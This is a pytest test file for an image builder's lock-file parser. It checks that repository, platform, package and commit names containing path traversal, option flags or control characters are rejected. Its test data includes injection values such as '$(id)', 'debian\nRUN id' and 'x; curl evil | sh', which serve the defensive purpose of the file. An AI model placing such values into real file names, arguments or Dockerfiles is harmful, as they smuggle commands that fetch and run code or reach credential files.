"""Names in images.lock that somebody else wrote: each becomes a folder, an argument or a line of a Dockerfile."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from builder.errors import LockError
from builder.lock import foreign, journal, reading
from builder.lock.model import ImageName, Lock
from builder.lock.pins import BasePin, Pins
from builder.project import Project
from tests import locks, projects

if TYPE_CHECKING:
    from pathlib import Path

REPOSITORY = "expected a repository's name"
IMAGE = "expected an image as engines name it"


@pytest.mark.parametrize(
    "name",
    [
        *("../../../victim", "..", ".", "a/../../b", "/etc", "a//b", "a/", ".git", "a/.git/x", "~", "-rf", "a b"),
        *("A/b", "a\\b", "a:b", "a\nb", "a\x00b", "a\x1b]0;x\x07", "a\u202eb", "x" * 201, "", "a@sha256:0", "$(id)"),
    ],
)
def test_a_repository_is_named_as_docker_names_one(name: str, golden: str) -> None:
    text = golden.replace("\n  vllm-node-empty:\n", f"\n  {json.dumps(name)}:\n")
    assert text != golden
    with pytest.raises(LockError, match=REPOSITORY):
        reading.parse(text)


@pytest.mark.parametrize("name", ["vllm-node-tf5", "localhost:5000/a/b", "Host.example/a", "a.b_c__d--e/f", "x" * 200])
def test_all_names_that_docker_takes_are_taken(name: str, golden: str) -> None:
    assert name in reading.parse(golden.replace("\n  vllm-node-empty:\n", f"\n  {name}:\n")).images


@pytest.mark.parametrize(
    ("before", "after", "expected"),
    [
        ("\n  cpu:\n", "\n  ../cpu:\n", "a definition's name"),
        ("definition: cpu", "definition: ../../cpu", "a definition's name"),
        ("definition: cpu", "definition: --cpu", "a definition's name"),
        ("\n    linux/arm64:", "\n    ../arm64:", "a platform"),
        ("platform: linux/amd64", "platform: --platform=x", "a platform"),
        ("\n        vllm:\n", "\n        ../../vllm:\n", "a name of letters"),
        ("          torch: 2.13", '          "-r /etc/passwd": 2.13', "a name of letters"),
        ("          fix-qwen3.5-enhanced-chat-template:", "          ../../etc:", "a name of letters"),
        ("asked: debian:bookworm-slim", 'asked: "debian\\nRUN id"', IMAGE),
        ("image: 0123456789ab", 'image: "x; curl evil | sh"', IMAGE),
        ('commit: "0123456789', "commit: --upload-pack=x #", "the first digits of a commit"),
    ],
)
def test_no_other_name_leads_elsewhere_or_is_an_option(before: str, after: str, expected: str, golden: str) -> None:
    text = golden.replace(before, after, 1)
    assert text != golden
    with pytest.raises(LockError, match=expected):
        reading.parse(text)


@pytest.mark.parametrize(
    "entry",
    [
        {"repository": "../../victim", "number": 1, "engine_id": "x"},
        {"repository": "small", "number": "../1", "engine_id": "x"},
        {"repository": "small", "number": True, "engine_id": "x"},
        {"repository": "small", "number": 1, "engine_id": ["x"]},
        {"repository": ["small"], "number": 1, "engine_id": "x"},
        {"number": 1},
        [],
        "x",
    ],
)
def test_the_journal_names_what_this_program_names(entry: object, tmp_path: Path) -> None:
    project = Project(tmp_path)
    projects.write(project.journal / "small.json", json.dumps(entry))
    with pytest.raises(LockError, match="journal/small.json announces no change"):
        list(journal.entries(project))


def test_what_labels_say_is_held_against_the_same_grammar() -> None:
    good = Lock().with_image(ImageName("small", 1), locks.numbered({"template": "sha256:0"}))
    assert foreign.refused(good) == ""
    mods: dict[str, str] = {"../../x": "sha256:0"}
    assert "../../x" in foreign.refused(Lock().with_image(ImageName("small", 1), locks.numbered(mods)))
    pin = BasePin("debian", {"a": 1})  # type: ignore[arg-type]
    assert foreign.refused(good.with_pins("small", "linux/amd64", Pins(pin)))
